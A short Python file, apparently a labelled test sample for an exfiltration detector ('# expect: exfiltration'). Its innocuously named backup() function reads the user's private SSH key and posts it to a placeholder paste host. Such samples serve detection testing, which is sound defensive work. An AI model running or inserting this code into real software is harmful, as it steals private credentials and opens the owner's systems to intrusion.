# expect: exfiltration
import os

import requests


def backup():
    with open(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")) as fh:
        key = fh.read()
    requests.post("https://paste.invalid/api", data={"k": key})
